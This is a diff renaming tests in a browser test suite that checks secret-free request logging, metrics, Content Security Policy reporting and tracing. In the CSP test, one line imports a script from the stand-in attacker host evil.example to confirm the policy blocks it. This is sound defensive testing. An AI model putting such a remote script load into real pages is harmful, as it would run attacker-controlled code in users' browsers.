@@ -40,7 +40,7 @@ async function secretsOf(context: BrowserContext): Promise<string[]> {
   return values.filter((value) => value.length > 12 && !value.startsWith('/'));
 }
 
-test('a journey leaves one line a request, and none of its secrets', async ({ page, context, site: { server } }) => {
+test('each request of a journey logs one line without secrets', async ({ page, context, site: { server } }) => {
   const { origin } = server;
   const secrets: string[] = ['SECRET-COUPON-7', 'tlop_secret-operator-token'];
   page.on('request', (request) => {
@@ -81,7 +81,7 @@ test('a journey leaves one line a request, and none of its secrets', async ({ pa
   expect(found).toEqual([]);
 });
 
-test('every metric of the dashboard is in a scrape', async ({ page, site: { server, metrics } }) => {
+test('the metrics endpoint has every metric of the dashboard', async ({ page, site: { server, metrics } }) => {
   await page.goto(`${server.origin}/teams`);
   await page.goto(`${server.origin}/teams`);
   const report = { 'csp-report': { 'document-uri': `${server.origin}/teams`, 'effective-directive': 'img-src' } };
@@ -103,7 +103,7 @@ test('every metric of the dashboard is in a scrape', async ({ page, site: { serv
   expect((await fetch(`${server.origin}/metrics`)).status).toBe(404);
 });
 
-test('a page that breaks the policy is reported by the browser', async ({ page, site: { server, metrics } }) => {
+test('the browser reports a policy violation', async ({ page, site: { server, metrics } }) => {
   await page.goto(`${server.origin}/teams`);
   await page.evaluate("import('https://evil.example/x.js').catch(() => {})");
   const reported = async () =>
@@ -113,7 +113,7 @@ test('a page that breaks the policy is reported by the browser', async ({ page, 
   await expect.poll(told).toMatchObject([{ msg: 'Blocked on a page', route: '/teams' }]);
 });
 
-test('a page and the calls it made are one trace', async ({ page, site: { server, spans } }) => {
+test('a page and its backend calls form one trace', async ({ page, site: { server, spans } }) => {
   await page.goto(`${server.origin}/venues`);
   const render = () => spans.find(({ name }) => name === 'render /venues');
   await expect.poll(render, { timeout: 20_000 }).toBeTruthy();
